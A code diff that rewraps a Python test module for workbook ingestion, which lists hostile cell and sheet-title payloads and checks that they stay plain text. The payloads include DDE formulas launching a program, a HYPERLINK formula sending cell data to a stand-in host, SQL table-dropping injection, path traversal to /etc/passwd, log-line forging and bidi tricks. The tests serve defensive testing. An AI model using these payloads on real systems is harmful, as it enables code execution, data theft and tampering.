@@ -1,15 +1,43 @@
-"""Which texts attack those who show, log or export them? Text of a workbook stays text, wherever it stands."""
+"""Which texts attack those who show, log or export them? Text of a workbook stays text, wherever it
+stands.
+"""
 
 from __future__ import annotations
 
 from collections.abc import Callable
 
-from tests.ingest.corpus.base import FINE, NOT_REFUSED, READ_OR_REFUSED, ROWS, SAID, Case, Config, at, in_row, without, without_row
-from tests.ingest.corpus.books import WORKBOOK, Sheet, book, just, made, of_grid, swap, typed, unspoilt
+from tests.ingest.corpus.base import (
+    FINE,
+    NOT_REFUSED,
+    READ_OR_REFUSED,
+    ROWS,
+    SAID,
+    Case,
+    Config,
+    at,
+    in_row,
+    without,
+    without_row,
+)
+from tests.ingest.corpus.books import (
+    WORKBOOK,
+    Sheet,
+    book,
+    just,
+    made,
+    of_grid,
+    swap,
+    typed,
+    unspoilt,
+)
 
 PAYLOADS: tuple[tuple[str, str, str], ...] = (
     ("formula-call", "=cmd|'/C calc'!A0", "runs a program when exported as a formula"),
-    ("formula-link", '=HYPERLINK("http://192.0.2.1/?"&A1,"详情")', "sends figures away when clicked"),
+    (
+        "formula-link",
+        '=HYPERLINK("http://192.0.2.1/?"&A1,"详情")',
+        "sends figures away when clicked",
+    ),
     ("formula-plus", "+1+cmd|'/C calc'!A0", "a plus begins a formula too"),
     ("formula-minus", "-2+3+cmd|'/C calc'!A0", "a minus begins a formula too"),
     ("formula-at", "@SUM(1+1)*cmd|'/C calc'!A0", "an at sign begins a formula too"),
@@ -24,7 +52,11 @@ PAYLOADS: tuple[tuple[str, str, str], ...] = (
     ("markdown", "[点击](javascript:alert(1))", "a link where markdown is shown"),
     ("query", "'; DROP TABLE observations; --", "ends a query that was put together from text"),
     ("path", "../../../../etc/passwd", "leaves the folder when used as a file's name"),
-    ("log-line", "x\r\n2026-01-01 INFO user=admin signed in", "writes a line of its own into a log"),
+    (
+        "log-line",
+        "x\r\n2026-01-01 INFO user=admin signed in",
+        "writes a line of its own into a log",
+    ),
     ("bidi", "abc\u202egpj.\u202c\u2066x\u2069", "turns the direction of what is read"),
     ("zero-width", "地\u200b区\u200d生\u2060产\ufeff", "characters that cannot be seen"),
     ("terminal", "x_x001B_[2J_x0007_", "clears a terminal that prints it"),
@@ -83,7 +115,9 @@ def _titled(title: str) -> Callable[[Config], bytes]:
 
 def _formula_title(config: Config) -> bytes:
     """A title that no spreadsheet would allow, written into the list of sheets by hand."""
-    return made(lambda parts: swap(parts, WORKBOOK, f'name="{config.sheet}"', "name=\"=cmd|'/C calc'!A0\""))(config)
+    return made(
+        lambda parts: swap(parts, WORKBOOK, f'name="{config.sheet}"', "name=\"=cmd|'/C calc'!A0\"")
+    )(config)
 
 
 CASES = (
@@ -166,6 +200,15 @@ CASES = (
         if name in {"formula-call", "script", "log-line", "terminal"}
     ),
     *(Case(f"sheet-{name}", "names", _titled(title), FINE, why) for name, title, why in _SHEETS),
-    Case("sheet-formula-call", "names", _formula_title, READ_OR_REFUSED, "a title that no spreadsheet would allow"),
-    *(Case(f"file-{name}", "names", unspoilt, READ_OR_REFUSED, why, filename=filename) for name, filename, why in FILES),
+    Case(
+        "sheet-formula-call",
+        "names",
+        _formula_title,
+        READ_OR_REFUSED,
+        "a title that no spreadsheet would allow",
+    ),
+    *(
+        Case(f"file-{name}", "names", unspoilt, READ_OR_REFUSED, why, filename=filename)
+        for name, filename, why in FILES
+    ),
 )
